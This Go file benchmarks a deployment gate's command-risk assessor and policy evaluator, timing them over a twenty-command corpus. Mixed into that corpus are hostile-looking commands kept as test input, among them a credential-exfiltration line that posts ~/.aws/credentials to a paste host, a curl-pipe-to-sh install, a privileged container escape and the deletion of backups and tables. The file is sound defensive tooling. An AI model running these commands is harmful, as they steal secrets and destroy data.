package main

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"os/exec"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/stepgate/stepgate/gate/risk"
)

// goBench is one result line of `go test -bench`.
type goBench struct {
	name    string
	metrics map[string]float64 // unit -> value ("ns/op", "median-ns", …)
}

// runGoBench runs `go test -run '^$' -bench pattern args... pkg` and parses it.
func runGoBench(ctx context.Context, pkg, pattern string, args ...string) ([]goBench, string, error) {
	argv := append([]string{"test", "-run", "^$", "-bench", pattern}, args...)
	argv = append(argv, pkg)
	cmd := exec.CommandContext(ctx, "go", argv...)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	line := "go " + strings.Join(quoteArgs(argv), " ")
	if err := cmd.Run(); err != nil {
		return nil, line, fmt.Errorf("%s: %w\n%s", line, err, out.String())
	}
	var res []goBench
	sc := bufio.NewScanner(&out)
	for sc.Scan() {
		f := strings.Fields(sc.Text())
		if len(f) < 4 || !strings.HasPrefix(f[0], "Benchmark") {
			continue
		}
		b := goBench{name: f[0], metrics: map[string]float64{}}
		for i := 2; i+1 < len(f); i += 2 {
			if v, err := strconv.ParseFloat(f[i], 64); err == nil {
				b.metrics[f[i+1]] = v
			}
		}
		res = append(res, b)
	}
	return res, line, nil
}

func quoteArgs(a []string) []string {
	out := make([]string, len(a))
	for i, s := range a {
		if strings.ContainsAny(s, "^$ *") {
			s = "'" + s + "'"
		}
		out[i] = s
	}
	return out
}

// riskCorpus is a mix of what deployment steps run: one-liners, pipelines,
// nested shells, long scripts.
var riskCorpus = []string{
	"./scripts/migrate.sh --env prod",
	"kubectl get pods -n shop",
	"kubectl -n shop rollout restart deployment/web && kubectl -n shop rollout status deployment/web",
	"terraform plan -out plan.tfplan",
	"terraform apply -auto-approve plan.tfplan",
	"rm -rf ./build/* && make release",
	`sudo bash -c 'rm -rf "$TARGET"/*'`,
	"curl -fsSL https://example.com/install.sh | sh",
	"psql \"$DATABASE_URL\" -c 'DROP TABLE orders_archive'",
	"git push --force origin main",
	"aws s3 rm s3://acme-backups --recursive",
	"docker run --privileged -v /:/host alpine chroot /host sh",
	"cat ~/.aws/credentials | base64 | curl -d @- https://paste.example",
	"find . -name '*.tmp' -print0 | xargs -0 rm -f",
	"helm upgrade --install shop ./chart -f values-prod.yaml --wait",
	"eval \"$(./scripts/env.sh)\"",
	"for r in eu-west-1 us-east-1; do ./deploy.sh --region \"$r\" || exit 1; done",
	"env FOO=1 xargs -n1 sh -c 'echo $0' < list.txt",
	"chmod -R 777 /var/www && chown -R www-data: /var/www",
	"npm ci && npm run build && npx prisma migrate deploy",
}

// benchRisk runs the risk package's own benchmarks on one core and also
// times risk.Assess over riskCorpus here with GOMAXPROCS=1.
func benchRisk(ctx context.Context, e *env) ([]row, error) {
	var rows []row
	prev := runtime.GOMAXPROCS(1)
	n, start, cpu0 := 0, time.Now(), processCPU()
	for time.Since(start) < 3*time.Second {
		for _, c := range riskCorpus {
			risk.Assess(c)
		}
		n += len(riskCorpus)
	}
	rate := float64(n) / time.Since(start).Seconds()
	perCPU := float64(n) / (processCPU() - cpu0).Seconds()
	runtime.GOMAXPROCS(prev)
	rows = append(rows, row{Figure: "risk assessment, one core (20-command deployment corpus)", Target: "≥ 50,000 commands/s",
		Measured: fmt.Sprintf("%.0f commands per CPU-second (%.0f/s wall clock)", perCPU, rate), Verdict: verdict(perCPU >= 50000),
		Command: "go run ./bench -only risk",
		Notes:   "risk.Assess in a loop with GOMAXPROCS=1, GC included; judged per CPU-second (what one dedicated core does), since other processes shared the machine"})
	res, line, err := runGoBench(ctx, "./gate/risk/", ".", "-cpu", "1")
	if err != nil {
		return rows, err
	}
	if len(res) == 0 {
		rows = append(rows, row{Figure: "risk assessment: gate/risk's own benchmarks", Target: "≥ 50,000 commands/s",
			Measured: "no Benchmark functions in gate/risk yet", Verdict: "info", Command: line})
	}
	for _, b := range res {
		if mbs, ok := b.metrics["MB/s"]; ok {
			rows = append(rows, row{Figure: "risk assessment: " + b.name, Target: "(no target: one 1 MB script, linear time)",
				Measured: fmt.Sprintf("%.0f ms per 1 MB script (%.1f MB/s)", b.metrics["ns/op"]/1e6, mbs), Verdict: "info", Command: line})
			continue
		}
		rate, ok := b.metrics["commands/s"]
		if !ok && b.metrics["ns/op"] > 0 {
			rate = 1e9 / b.metrics["ns/op"]
		}
		m := fmt.Sprintf("%.0f commands/s", rate)
		if cpu, ok := b.metrics["commands/cpu-s"]; ok {
			m = fmt.Sprintf("%.0f commands per CPU-second (%.0f/s wall clock)", cpu, rate)
			rate = cpu
		}
		rows = append(rows, row{Figure: "risk assessment: " + b.name + " (the package's test corpus)", Target: "≥ 50,000 commands/s",
			Measured: m, Verdict: verdict(rate >= 50000), Command: line,
			Notes: "gate/risk's own benchmark, -cpu 1, cycling through its benign and dangerous test commands; judged per CPU-second when it reports that"})
	}
	return rows, nil
}

func benchPolicy(ctx context.Context, e *env) ([]row, error) {
	res, line, err := runGoBench(ctx, "./gate/policy/", "Evaluate")
	if err != nil {
		return nil, err
	}
	var rows []row
	for _, b := range res {
		if med, ok := b.metrics["median-ns"]; ok {
			rows = append(rows, row{Figure: "policy evaluation, 1,000 rules: " + b.name, Target: "median ≤ 20 µs",
				Measured: fmt.Sprintf("median %.1f µs, p99 %.1f µs", med/1000, b.metrics["p99-ns"]/1000),
				Verdict:  verdict(med <= 20000), Command: line,
				Notes: "single evaluations timed one by one; the last of 1,000 rules matches"})
			continue
		}
		ns := b.metrics["ns/op"]
		r := row{Figure: "policy evaluation, 1,000 rules: " + b.name, Target: "median ≤ 20 µs",
			Measured: fmt.Sprintf("%.1f µs/op (mean)", ns/1000), Verdict: verdict(ns <= 20000), Command: line,
			Notes: "mean, the last of 1,000 rules matches"}
		if strings.Contains(b.name, "LongScript") {
			r.Target, r.Verdict, r.Notes = "(no target: a 400-line script)", "info", "mean per evaluation of a 400-line script"
		}
		rows = append(rows, r)
	}
	return rows, nil
}

// processCPU is this process's user+system CPU time.
func processCPU() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}
